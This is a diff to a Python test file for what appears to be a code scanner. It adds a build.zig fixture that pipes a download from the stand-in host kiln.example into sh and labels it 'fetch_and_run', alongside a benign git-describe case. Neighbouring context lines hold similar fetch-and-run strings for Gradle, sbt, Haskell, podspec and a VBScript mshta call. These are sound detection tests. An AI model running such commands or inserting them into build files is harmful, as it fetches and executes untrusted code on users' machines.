@@ -111,6 +111,7 @@ def test_a_download_is_known_by_its_host() -> None:
         ),
         ("a.gradle", "commandLine 'sh', '-c', 'curl https://kiln.example/x | sh'", "fetch_and_run"),
         ("a.sbt", 'Seq("sh", "-c", "curl https://kiln.example/x | sh").!', "fetch_and_run"),
+        ("build.zig", '_ = b.run(&.{ "sh", "-c", "curl https://kiln.example/x | sh" });', "fetch_and_run"),
         ("a.hs", 'main = callCommand "curl https://kiln.example/x | sh"', "fetch_and_run"),
         ("a.vbs", 'CreateObject("WScript.Shell").Run "mshta https://kiln.example/x"', "fetch_and_run"),
         ("a.podspec", "s.prepare_command = 'curl https://kiln.example/x | sh'", "fetch_and_run"),
@@ -149,6 +150,7 @@ def test_a_command_is_read_however_it_is_given(path: str, code: str, capability:
         ("A.java", 'statement.execute(); context.lookup("java:comp/env");'),
         ("a.php", "$f = trim($_SERVER['HTTP_HOST'] ?? ''); glaze($f); $_SERVER['A'] = 1;"),
         ("a.go", "cmd.Env = append(os.Environ(), pots...)"),
+        ("build.zig", '_ = b.run(&.{ "git", "describe" });'),
         ("a.rs", "oven.envs(std::env::vars()).spawn();"),
     ],
 )
